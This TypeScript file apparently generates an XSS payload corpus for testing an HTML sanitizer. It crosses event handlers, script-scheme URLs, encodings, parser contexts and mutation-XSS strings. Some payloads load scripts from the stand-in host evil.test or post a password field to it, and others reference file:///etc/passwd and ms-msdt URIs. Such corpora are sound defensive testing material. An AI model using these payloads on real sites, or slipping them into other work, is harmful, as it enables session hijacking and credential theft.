/**
 * Hostile HTML, made from parts of our own: what runs, where it stands, how it is written. Each call of `alert` or address
 * at `evil.test` would tell that something came through.
 */

const EVENTS =
  'load error click dblclick mouseover mouseenter mouseout mousemove mousedown mouseup wheel focus focusin blur keydown keyup keypress input change submit reset select toggle beforetoggle scroll scrollend resize pageshow pagehide hashchange popstate message storage unload beforeunload animationstart animationend animationiteration transitionend transitionrun pointerover pointerdown pointerenter pointerrawupdate touchstart touchend drag dragstart drop copy cut paste beforecopy contextmenu auxclick begin end repeat start finish bounce canplay play loadstart cuechange contentvisibilityautostatechange securitypolicyviolation'.split(
    ' ',
  )
const CARRIERS: [tag: string, rest: string][] = [
  ['img', 'src=x'],
  ['body', ''],
  ['svg', ''],
  ['a', 'href="#" tabindex=0 autofocus'],
  ['input', 'autofocus'],
  ['details', 'open'],
  ['video', 'src=x autoplay'],
  ['marquee', ''],
  ['div', 'style="animation-name:x;position:fixed;inset:0" contenteditable'],
  ['td', 'tabindex=1'],
]

/** Handlers on every kind of carrier, written in five ways. */
const handlers = (): string[] =>
  EVENTS.flatMap((event, at) =>
    CARRIERS.map(([tag, rest], carrier) => {
      const writings = [
        `<${tag} ${rest} on${event}=alert(1)>x</${tag}>`,
        `<${tag} ${rest} ON${event.toUpperCase()}='alert(1)'>x</${tag}>`,
        `<${tag}/${rest}/on${event}="alert&#40;1&#41;">x</${tag}>`,
        `<${tag}\n${rest}\t\fon${event}\n=\nalert\`1\`>x`,
        `<${tag} ${rest} x="y"on${event}="alert(1)"//>`,
      ]
      return writings[(at + carrier) % writings.length]!
    }),
  )

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  ' \u00a0javascript:alert(1)',
  'javascript\u0000:alert(1)',
  'javascript://evil.test/%0aalert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:application/xhtml+xml,<x/>',
  'blob:https://evil.test/1',
  'filesystem:https://evil.test/1',
  'file:///etc/passwd',
  '\\\\evil.test\\share',
  '//evil.test/x',
  '/\\evil.test/x',
  '/api/v1/session',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:javascript:alert(1)!',
  'ms-msdt:/id x',
  'search-ms:query=x',
  'cid:nobody',
  'http:javascript:alert(1)',
  'https:/\\evil.test',
]
const SINKS: ((address: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`,
  (to) => `<a xlink:href="${to}">x</a>`,
  (to) => `<img src="${to}">`,
  (to) => `<img lowsrc="${to}" dynsrc="${to}" longdesc="${to}">`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<form action="${to}"><button formaction="${to}">x</button></form>`,
  (to) => `<object data="${to}"><param name=src value="${to}"></object>`,
  (to) => `<embed src="${to}" code="${to}">`,
  (to) => `<svg><a xlink:href="${to}" href="${to}"><text>x</text></a><use href="${to}"/></svg>`,
  (to) =>
    `<math href="${to}"><maction actiontype="statusline" xlink:href="${to}">x</maction></math>`,
  (to) => `<meta http-equiv=refresh content="0;url=${to}"><base href="${to}">`,
  (to) => `<link rel=stylesheet href="${to}"><link rel=import href="${to}">`,
  (to) => `<table background="${to}"><td background="${to}">x</table>`,
  (to) => `<area href="${to}"><map name=x><area href="${to}"></map><img usemap=#x src=x>`,
  (to) => `<video src="${to}" poster="${to}"><source src="${to}"><track src="${to}"></video>`,
  (to) =>
    `<div style="background:url('${to}');behavior:url(${to});-moz-binding:url(${to})">x</div>`,
  (to) => `<script src="${to}"></script>`,
  (to) => `<blockquote cite="${to}"><q cite="${to}">x</q></blockquote>`,
]

const everyChar = (text: string, write: (code: number, at: number) => string) =>
  [...text].map((char, at) => write(char.codePointAt(0)!, at)).join('')

const ENCODINGS: ((address: string) => string)[] = [
  (text) => text.replaceAll('"', '&quot;'),
  (text) => everyChar(text, (code) => `&#${code};`),
  (text) => everyChar(text, (code) => `&#x${code.toString(16)};`),
  (text) =>
    everyChar(text, (code, at) => (at < 11 ? `&#${String(code).padStart(7, '0')}` : `&#${code};`)),
  (text) => text.replaceAll('"', '&quot;').replaceAll(':', '&colon;').replaceAll('\t', '&Tab;'),
]

const schemes = (): string[] =>
  ADDRESSES.flatMap((address, at) =>
    SINKS.flatMap((sink, where) =>
      [0, 1].map((nth) => sink(ENCODINGS[(at + where + nth) % ENCODINGS.length]!(address))),
    ),
  )

const RUNS = [
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT\n>',
  '<script/x src=//evil.test/x.js></script>',
  '<script>alert(1)//',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<style>@import "//evil.test/x.css";*{background:url(//evil.test/x)}</style>',
  '<style>@font-face{font-family:x;src:url(//evil.test/f)}p{font-family:x}</style>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)" sandbox="allow-scripts">',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
  '<object type="text/x-scriptlet" data="//evil.test/x"></object>',
  '<applet code=x archive=//evil.test/x.jar></applet>',
  '<form id=f action=//evil.test/><input name=password type=password><input type=image src=//evil.test/x></form>',
  '<button form=f formaction=javascript:alert(1)>x</button>',
  '<isindex type=image src=1 onerror=alert(1) action=javascript:alert(1) prompt=x>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><set attributeName=href to=javascript:alert(1) /><a><text>x</text></a></svg>',
  '<svg><image href=//evil.test/x /><feImage href=//evil.test/y /></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<meta http-equiv="Set-Cookie" content="x=y"><meta http-equiv=refresh content="0;url=data:text/html,x">',
  '<template><img src=x onerror=alert(1)></template><x-y onclick=alert(1) is=x-z>x</x-y>',
  '<dialog open style="position:fixed">sign in here</dialog>',
  '<a href="https://good.test" target=_top ping=//evil.test/p id=location name=cookie>x</a>',
  '<div id=document class=fui-Button name=getElementById slot=x>x</div>',
  '<xml id=x><i><![CDATA[<img src=x onerror=alert(1)>]]></i></xml><span datasrc=#x datafld=i dataformatas=html>',
  '<image src=//evil.test/x onerror=alert(1)><bgsound src=//evil.test/x><layer src=//evil.test/x></layer>',
  '<portal src=//evil.test/></portal><fencedframe src=//evil.test/></fencedframe>',
  '<label for=x popovertarget=y><select onfocus=alert(1)><option>x</select>',
  '<?xml-stylesheet href="javascript:alert(1)"?><!ENTITY x "y"><img src=x onerror=alert(1)>',
  '<div style="width:expression(alert(1));xss:ex/**/pression(alert(1))">x</div>',
  '<div style="background:\\75\\72\\6c(//evil.test/x);color:red">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
  '<div style="pos\\69tion:absolute;inset:0;transform:scale(99);margin:-999px">x</div>',
]

/** Where a payload can stand so that one parser takes for text what another takes for tags. */
const CONTEXTS: ((payload: string) => string)[] = [
  (it) => it,
  (it) => `<p title="${it}">x</p>${it}`,
  (it) => `<p title='${it}'>x`,
  (it) => `"><p>${it}</p>`,
  (it) => `<title>${it}</title></title>${it}`,
  (it) => `<textarea>${it}</textarea><textarea></textarea>${it}`,
  (it) => `<xmp>${it}</xmp><noembed></noembed>${it}`,
  (it) => `<style><!--</style>${it}--></style>`,
  (it) => `<!--><!-- ${it} --!>${it}<!---->${it}`,
  (it) => `<!-->${it}--><!--->${it}-->`,
  (it) => `<![if true]>${it}<![endif]><!--[if gte mso 9]>${it}<![endif]-->`,
  (it) => `<![CDATA[${it}]]><svg><![CDATA[</svg>${it}]]></svg>`,
  (it) => `<noscript><p title="</noscript>${it}">${it}</noscript>`,
  (it) => `<svg><desc>${it}</desc><title>${it}</title></svg>${it}`,
  (it) => `<math><mi>${it}</mi><mglyph>${it}</mglyph></math>${it}`,
  (it) => `<table><tr>${it}<td>${it}</table>${it}`,
  (it) => `<select><option>${it}</option></select><plaintext>${it}`,
  (it) => `<a href="https://good.test"><p>${it}<a href="https://good.test">${it}</p>`,
  (it) => `<p\u0000 title=x>${it.replaceAll('<', '<\u0000')}${it}`,
  (it) => it.replaceAll('<', '&lt;').replaceAll('>', '&gt;') + it.replaceAll('<', '\u226e'),
  (it) => `<pre>\n\n${it}</pre ><p>&lt;img src=x onerror=alert(1)&gt;`,
]

const runs = (): string[] => RUNS.flatMap((run) => CONTEXTS.map((context) => context(run)))

/** What changes its meaning when a browser writes down a tree and reads it again. */
const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  '<p style="font-family:\'\\27\\3bx:expression(alert(1))\'">x</p>',
  '<p style="font-family:&quot;}</style><img src=x onerror=alert(1)>&quot;">x</p>',
  '<img alt="`><script>alert(1)</script>`" src=x>',
  '<img alt="``onerror=alert(1)" src=x>',
  '<title><a id="</title><img src=x onerror=alert(1)>"></a></title>',
  '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<iframe><a title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<xmp><p id="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p id="</noembed><img src=x onerror=alert(1)>">',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--!><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg><style><img onerror=alert(1) src>',
  '<svg><font color=x><style><img src=x onerror=alert(1)></style></font></svg>',
  '<table><td><svg><desc><td></desc></svg><style><img src=x onerror=alert(1)></style></td></table>',
  '<a/href="https://good.test/"onclick=alert(1)//">x</a>',
  '<p><x><p><y><p></x></y><table><p><a><table><a>x</table>',
  '</p></br></a></table><p/>x</p/><br/ ></br x>',
  '<b><p><i></b>x</i></p><u><table><u>x</table></u>',
  '<option><p></option><optgroup><p></optgroup>x',
  '<button><p><button>x</p></button><li><p><li><p>',
  '<dl><dd><p><dt><p></dl><tr><td><th><tr><td>x',
  '<svg><style>&lt;/style&gt;<img src=x onerror=alert(1)></style></svg>',
  '<p title="&amp;quot;&gt;&lt;img src=x onerror=alert(1)&gt;">&amp;lt;script&amp;gt;</p>',
  '<div title="\u2028\u2029&#0;&#x80;&#xD800;&#x110000;">&#0;&notit;&ampamp;</div>',
]

const mutations = (): string[] =>
  MUTATIONS.flatMap((it) => [it, `<div>${it}</div>`, `<table><td>${it}`, `<svg>${it}</svg>${it}`])

/** Every payload, each once. */
export const payloads = (): string[] => [
  ...new Set([...handlers(), ...schemes(), ...runs(), ...mutations()]),
]
